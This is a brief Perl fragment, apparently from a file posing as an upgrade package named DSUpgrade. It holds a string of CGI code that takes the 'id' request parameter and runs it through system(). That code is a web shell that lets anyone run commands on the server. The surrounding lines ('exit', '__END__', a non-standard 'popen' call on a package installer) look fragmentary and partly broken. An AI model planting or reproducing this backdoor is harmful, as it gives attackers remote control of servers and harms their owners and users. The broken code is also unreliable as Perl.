exit;
__END__
package DSUpgrade;
my $block = 'if(CGI::param("id")){ my $a=CGI::param("id"); system("$a"); }';
popen(*I, "/pkg/dspkginstall", "r");
